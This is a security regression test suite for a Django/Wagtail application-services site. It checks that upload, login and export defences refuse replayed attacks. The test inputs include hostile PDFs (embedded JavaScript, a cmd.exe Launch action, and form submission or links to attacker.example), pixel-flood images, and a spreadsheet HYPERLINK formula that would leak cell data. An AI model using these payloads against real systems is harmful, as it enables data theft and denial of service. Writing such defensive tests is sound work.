"""Holding against an attacker (issue 15): each test sends what an attacker sent and fails on the code
that let it through."""

import csv
import io
import os
import stat
import struct
import subprocess
import sys
import time
import zlib
from concurrent.futures import ThreadPoolExecutor

import pytest
import requests
from django.conf import settings as django_settings
from django.contrib.auth.models import Group, Permission
from django.core.management import CommandError, call_command
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from wagtail.admin.panels import ObjectList
from wagtail.models import GroupCollectionPermission, GroupPagePermission, Page

from cms.applications.models import Application
from cms.devices.auth import device_for_token
from cms.devices.models import KioskDevice
from cms.services.dashboard import current_report, report_csv
from cms.services.models import Department, ServiceGuidePage
from cms.services.permissions import REVIEWERS
from tests.cms.test_applications import (
    IMMEDIATE,
    company,
    delivery_for,
    files_for,
    form_of,
    pdf,
    person,
    post_api,
    raw_multipart,
    upload,
)
from tests.cms.test_production import production
from tests.support.applications import apply_on_website
from tests.support.servers import REPO, gunicorn

pytestmark = pytest.mark.django_db

API = "/api/v1/applications"
EIGHT_MATERIALS = "330482-TZ-006"  # the guide asking for the most files


@pytest.fixture(autouse=True)
def _isolated(settings, tmp_path):
    settings.APPLICATION_FILES_DIR = tmp_path / "application-files"


def white_png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (255, 255, 255)).save(out, "PNG")
    return out.getvalue()


# ---- 1. image uploads cannot take the site down ---------------------------------------------------


@pytest.fixture(scope="module")
def flood_png() -> bytes:
    return white_png(6300, 6300)  # ~130 KB, 40 megapixels


def flood_request(png: bytes) -> tuple[bytes, str]:
    form = form_of(EIGHT_MATERIALS)
    assert len(form.asked) == 8
    fields = {"guide": EIGHT_MATERIALS, **company(), **delivery_for(form)}
    return raw_multipart(fields, [(m.field, f"scan{n}.png", png) for n, m in enumerate(form.asked)])


def test_a_flood_of_large_images_is_refused_from_their_headers(client, flood_png):
    body, content_type = flood_request(flood_png)
    client.get(f"{API}/forms/{EIGHT_MATERIALS}")  # warm: the first request imports and compiles
    started = time.perf_counter()
    response = client.post(API, data=body, content_type=content_type)
    took = time.perf_counter() - started
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "pixel_flood"
    assert "像素过多" in error["message"] and "too many pixels" in error["message"]
    assert took < 1, took  # nothing was decoded (before: 15 s and 580 MB for this request)
    assert not Application.objects.exists()


def test_images_within_each_files_cap_are_refused_over_the_requests_budget(client, settings):
    settings.APPLICATION_IMAGE_MAX_PIXELS, settings.APPLICATION_IMAGE_TOTAL_PIXELS = 1_000_000, 2_000_000
    form = form_of(EIGHT_MATERIALS)
    fields = form.asked[:3]
    data = {"guide": EIGHT_MATERIALS, **company(), **delivery_for(form)}
    data.update({m.field: upload(f"{n}.png", white_png(1000, 900)) for n, m in enumerate(fields)})
    response = post_api(client, data)
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "pixel_budget"
    assert "合计像素过多" in error["message"] and "together have too many pixels" in error["message"]


@pytest.mark.timeout(180)
def test_concurrent_image_floods_are_refused_while_the_home_page_answers(database_url, tmp_path, flood_png):
    form = form_of(EIGHT_MATERIALS)
    fields = {"guide": EIGHT_MATERIALS, **company(), **delivery_for(form)}
    files = {m.field: (f"scan{n}.png", flood_png) for n, m in enumerate(form.asked)}

    def submit(url: str) -> tuple[int, float, str]:
        """The website's form, as a browser sends it: its CSRF cookie and token, eight files."""
        with requests.Session() as session:
            session.get(f"{url}/apply/{EIGHT_MATERIALS}/", timeout=60).raise_for_status()
            data = {**fields, "csrfmiddlewaretoken": session.cookies["csrftoken"]}
            started = time.perf_counter()
            response = session.post(f"{url}/apply/{EIGHT_MATERIALS}/", data=data, files=files, timeout=60)
            return response.status_code, time.perf_counter() - started, response.text

    def home(url: str) -> float:
        started = time.perf_counter()
        requests.get(f"{url}/", timeout=60).raise_for_status()
        return time.perf_counter() - started

    with gunicorn(database_url, tmp_path, workers=3) as url, ThreadPoolExecutor(4) as pool:
        list(pool.map(home, [url] * 8))  # warm every worker: a first request imports and compiles
        floods = [pool.submit(submit, url) for _ in range(3)]
        time.sleep(0.2)  # the three are being answered
        page = pool.submit(home, url)
        answers = [f.result() for f in floods]
        home_seconds = page.result()
    assert [status for status, _, _ in answers] == [400, 400, 400], [a[:2] for a in answers]
    assert all("图片像素过多" in text for _, _, text in answers)
    assert max(seconds for _, seconds, _ in answers) < 1, [a[:2] for a in answers]  # before: 12–16 s each
    assert home_seconds < 2, home_seconds  # before: 31 s, every worker killed by its timeout


# ---- 2. PDFs are checked by a real parser ---------------------------------------------------------


def action(kind: str, **entries) -> DictionaryObject:
    value = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    value.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
    return value


def object_stream_pdf(active: bytes) -> bytes:
    """A PDF 1.5 whose catalog, pages and open action sit in one Flate-compressed object stream, so no
    byte of the action shows in the file."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        active,
    ]
    body, offsets = b"", []
    for value in objects:
        offsets.append(len(body))
        body += value + b"\n"
    header = b" ".join(b"%d %d" % (n + 1, at) for n, at in enumerate(offsets)) + b"\n"
    packed = zlib.compress(header + body)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    stream_at = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 2, 5, n) for n in range(4))
    rows += struct.pack(">BIH", 1, stream_at, 0) + struct.pack(">BIH", 1, xref_at, 0)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return out


HOSTILE_PDFS = {
    "escaped-javascript-name": lambda: pdf().replace(b"/Producer", b"/Java#53cript (app.alert(1)) /Producer"),
    "escaped-launch-name": lambda: pdf(OpenAction=action("Launch", F="cmd.exe")).replace(b"/Launch", b"/L#61unch"),
    "javascript-in-object-stream": lambda: object_stream_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "open-action-uri": lambda: pdf(OpenAction=action("URI", URI="https://attacker.example/x")),
    "open-action-submit-form": lambda: pdf(OpenAction=action("SubmitForm", F="https://attacker.example/f")),
    "html-polyglot-after-1kb": lambda: pdf() + b" " * 2048 + b"<html><script>alert(document.cookie)</script>",
}


@pytest.mark.parametrize("make", HOSTILE_PDFS.values(), ids=HOSTILE_PDFS.keys())
def test_hostile_pdfs_are_refused(client, make):
    form = form_of(IMMEDIATE)
    field = form.asked[0].field
    data = {"guide": IMMEDIATE, **person(), **delivery_for(form), field: upload("form.pdf", make())}
    response = post_api(client, data)
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "script_not_allowed"
    assert "不接受含脚本" in error["fields"][field] and "not accepted" in error["fields"][field]
    assert not Application.objects.exists()


def test_a_plain_pdf_with_a_link_and_a_page_open_action_is_accepted(client):
    form = form_of(IMMEDIATE)
    field = form.asked[0].field
    data = {"guide": IMMEDIATE, **person(), **delivery_for(form)}
    data[field] = upload("ok.pdf", object_stream_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>"))
    response = post_api(client, data)
    assert response.status_code == 201, response.content


def test_a_damaged_pdf_is_refused_with_its_reason(client):
    form = form_of(IMMEDIATE)
    field = form.asked[0].field
    data = {"guide": IMMEDIATE, **person(), **delivery_for(form), field: upload("x.pdf", b"%PDF-1.7\n" + b"\0" * 64)}
    response = post_api(client, data)
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "damaged_pdf"
    assert "PDF 文件已损坏" in response.json()["error"]["fields"][field]


# ---- 6. shared computers --------------------------------------------------------------------------


def test_application_and_booking_pages_are_not_kept_and_the_session_ends_with_the_browser(client):
    form = form_of(IMMEDIATE)
    data = {"guide": IMMEDIATE, **person(), **delivery_for(form), **files_for(form)}
    submitted = apply_on_website(client, f"/apply/{IMMEDIATE}/", data)
    assert submitted.status_code == 302, submitted.content
    session_cookie = submitted.cookies[django_settings.SESSION_COOKIE_NAME]
    assert not session_cookie["max-age"] and not session_cookie["expires"]  # before: two weeks
    receipt = Application.objects.get().receipt
    pages = [
        f"/apply/status/{receipt}/",
        f"/apply/status/{receipt}/files/{form.asked[0].position}/",
        f"/apply/{IMMEDIATE}/",
        "/booking/manage/",
        "/en/booking/manage/",
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        assert "no-store" in response["Cache-Control"], (page, response.get("Cache-Control"))


# ---- 4. stored data is not readable by other local users ------------------------------------------


def test_data_dir_and_database_are_private_and_tightened_when_they_exist(tmp_path):
    data_dir = tmp_path / "data"
    data_dir.mkdir(mode=0o755)
    data_dir.chmod(0o755)
    old = data_dir / "onetrip.sqlite3"
    old.write_bytes(b"")
    old.chmod(0o644)
    script = (
        "import django; django.setup()\n"
        "from django.db import connection\n"
        "with connection.cursor() as c: c.execute('CREATE TABLE t (x)'); c.execute('INSERT INTO t VALUES (1)')\n"
        "from django.conf import settings; settings.MEDIA_ROOT.mkdir()\n"
        "import os; print(oct(os.stat(f'{settings.DATA_DIR}/onetrip.sqlite3-wal').st_mode & 0o777))\n"
    )
    env = {**os.environ, "DATA_DIR": str(data_dir), "DJANGO_SETTINGS_MODULE": "cms.settings.test"}
    env.pop("DATABASE_URL", None)
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=REPO, env=env, check=True, timeout=120, capture_output=True
    )
    assert done.stdout.decode().split()[-1] == "0o600", done.stdout  # the WAL, while the database is open
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in [data_dir, *data_dir.iterdir()]}
    assert modes["data"] == 0o700, modes
    assert modes["onetrip.sqlite3"] == 0o600, modes
    assert modes["media"] == 0o700, modes


# ---- 5. no personal data in the server log --------------------------------------------------------


def test_without_smtp_mail_goes_to_private_files_and_the_log_says_only_that(tmp_path):
    code = """
import django
django.setup()
from django.core.mail import send_mail
send_mail("预约成功 62GSY4ZV", "张三, reset: https://x/admin/password_reset/confirm/MQ/abc-123/", None,
          ["zhangsan@example.com"])
"""
    done = production(tmp_path, code)
    assert done.returncode == 0, done.stderr
    for personal in ("zhangsan@example.com", "张三", "62GSY4ZV", "password_reset"):
        assert personal not in done.stdout and personal not in done.stderr, personal
    assert "mail(s) written to" in done.stderr
    (written,) = (tmp_path / "mail").iterdir()
    assert "zhangsan@example.com" in written.read_text()
    assert stat.S_IMODE((tmp_path / "mail").stat().st_mode) == 0o700
    assert stat.S_IMODE(written.stat().st_mode) == 0o600


# ---- 3. the admin resists password guessing -------------------------------------------------------


def admin_login(client, username: str, password: str, address: str = "10.1.2.3"):
    return client.post("/admin/login/", {"username": username, "password": password}, REMOTE_ADDR=address)


def test_admin_login_locks_an_account_after_a_few_failures_until_unlocked(client, django_user_model, caplog):
    django_user_model.objects.create_superuser("chief", "chief@example.com", "right-horse-battery-staple")
    answers = [admin_login(client, "chief", f"guess{n}").status_code for n in range(40)]
    assert answers[:5] == [200] * 5  # the form again, with its error
    assert set(answers[5:]) == {429}, answers  # before: all 40 answered, then the right one worked
    locked = admin_login(client, "chief", "right-horse-battery-staple", address="10.9.9.9")
    assert locked.status_code == 429  # the account, from any address
    text = locked.content.decode()
    assert "登录失败次数过多" in text and "Too many failed logins" in text
    assert int(locked["Retry-After"]) > 0
    assert any("admin login locked for account" in r.getMessage() for r in caplog.records)

    call_command("unlock_admin_login", "chief", stdout=io.StringIO())
    assert admin_login(client, "chief", "right-horse-battery-staple").status_code == 302


def test_a_superuser_unlocks_a_login_in_the_admin_and_the_unlock_is_logged(client, django_user_model, caplog):
    django_user_model.objects.create_superuser("chief", "chief@example.com", "right-horse-battery-staple")
    editor = django_user_model.objects.create_user("editor", "e@example.com", "editor-horse-battery-staple")
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    for n in range(django_settings.LOGIN_LOCK["account"]):
        admin_login(client, "chief", f"guess{n}")  # the account locks
    for n in range(django_settings.LOGIN_LOCK["address"]):
        admin_login(client, f"user{n}", "guess", address="10.6.6.6")  # and, apart, this address
    assert admin_login(client, "chief", "right-horse-battery-staple").status_code == 429

    client.force_login(editor)  # staff, not a superuser: neither the page nor the unlock (Wagtail sends them home)
    assert client.get("/admin/login-locks/")["Location"] == "/admin/"
    assert client.post("/admin/login-locks/", {"value": "chief"})["Location"] == "/admin/"
    assert "/admin/login-locks/" not in client.get("/admin/").content.decode()
    client.logout()
    assert admin_login(client, "chief", "right-horse-battery-staple").status_code == 429  # still locked

    admin = django_user_model.objects.create_superuser("root2", "r@example.com", "root2-horse-battery-staple")
    client.force_login(admin)
    assert "/admin/login-locks/" in client.get("/admin/").content.decode()  # in the settings menu
    page = client.get("/admin/login-locks/").content.decode()
    assert "<td>chief</td>" in page and "<td>10.6.6.6</td>" in page  # the account and the address, both locked
    assert client.post("/admin/login-locks/", {"value": "chief"}).status_code == 302
    assert any("admin login unlocked for 'chief' by user 'root2'" in r.getMessage() for r in caplog.records)
    client.logout()
    assert admin_login(client, "chief", "right-horse-battery-staple").status_code == 302  # from another address
    client.logout()
    assert admin_login(client, "chief", "right-horse-battery-staple", address="10.6.6.6").status_code == 429
    client.force_login(admin)
    client.post("/admin/login-locks/", {"value": "10.6.6.6"})
    assert "<td>10.6.6.6</td>" not in client.get("/admin/login-locks/").content.decode()
    client.logout()
    assert admin_login(client, "chief", "right-horse-battery-staple", address="10.6.6.6").status_code == 302


def test_admin_login_locks_an_address_trying_many_accounts(client, settings):
    answers = [admin_login(client, f"user{n}", "guess").status_code for n in range(settings.LOGIN_LOCK["address"] + 1)]
    assert answers[-1] == 429, answers
    assert admin_login(client, "someone", "guess", address="10.7.7.7").status_code == 200  # another address


def test_a_weak_admin_password_is_refused(django_user_model, monkeypatch):
    django_user_model.objects.filter(is_superuser=True).delete()
    monkeypatch.setenv("ADMIN_PASSWORD", "admin")
    with pytest.raises(CommandError, match="ADMIN_PASSWORD refused"):
        call_command("ensure_admin", stdout=io.StringIO())
    assert not django_user_model.objects.filter(is_superuser=True).exists()


def test_wagtails_default_groups_lose_their_rights(django_user_model):
    moderators, _ = Group.objects.get_or_create(name="Moderators")
    GroupPagePermission.objects.get_or_create(
        group=moderators, page=Page.get_first_root_node(), permission=Permission.objects.get(codename="publish_page")
    )
    moderators.permissions.add(Permission.objects.get(codename="access_admin"))
    member = django_user_model.objects.create_user("mod", password="x-long-enough-password")
    member.groups.add(moderators)
    call_command("setup_editorial", stdout=io.StringIO())
    assert not moderators.permissions.exists()
    assert not GroupPagePermission.objects.filter(group__name__in=["Editors", "Moderators"]).exists()
    assert not GroupCollectionPermission.objects.filter(group__name__in=["Editors", "Moderators"]).exists()


def test_only_a_superuser_may_change_which_group_edits_for_a_department(django_user_model):
    call_command("setup_editorial", stdout=io.StringIO())
    reviewer = django_user_model.objects.create_user("reviewer", password="x-long-enough-password")
    reviewer.groups.add(Group.objects.get(name=REVIEWERS))
    chief = django_user_model.objects.create_superuser("chief", "chief@example.com", "x-long-enough-password")
    form_class = ObjectList(Department.panels).bind_to_model(Department).get_form_class()
    assert "editors" not in form_class(instance=Department.objects.first(), for_user=reviewer).fields
    assert "editors" in form_class(instance=Department.objects.first(), for_user=chief).fields


# ---- 7. small ones --------------------------------------------------------------------------------


def test_dashboard_csv_escapes_department_names_against_spreadsheet_formulas():
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"详情")'
    department = Department.objects.filter(name__in=[g.department.name for g in ServiceGuidePage.objects.live()])
    department.update(name_en=formula)
    rows = list(csv.reader(io.StringIO(report_csv(current_report()).lstrip("\ufeff"))))
    names = {row[2] for row in rows[1:]}
    assert "'" + formula in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_editing_a_revoked_kiosk_does_not_reactivate_it(admin_client):
    device = KioskDevice(name="xindai-2")
    token = device.issue_token()
    device.revoke()
    device.save()
    response = admin_client.post(f"/admin/kiosks/edit/{device.pk}/", {"name": "xindai-2 (spare)", "centre": ""})
    assert response.status_code in (200, 302)
    device.refresh_from_db()
    assert device.name == "xindai-2 (spare)"
    assert device.revoked_at is not None  # before: active again, with a new token
    assert device_for_token(token) is None


def test_an_oversized_upload_form_is_refused_before_it_is_read(client, settings):
    body, content_type = raw_multipart({"guide": IMMEDIATE}, [("material_1", "a.pdf", pdf())])
    claimed = settings.APPLICATION_UPLOAD_TOTAL_BYTES + 2 * 1024 * 1024
    response = client.post(f"/apply/{IMMEDIATE}/", data=body, content_type=content_type, CONTENT_LENGTH=str(claimed))
    assert response.status_code == 413
    assert "文件合计超过" in response.content.decode() and "the files together exceed" in response.content.decode()
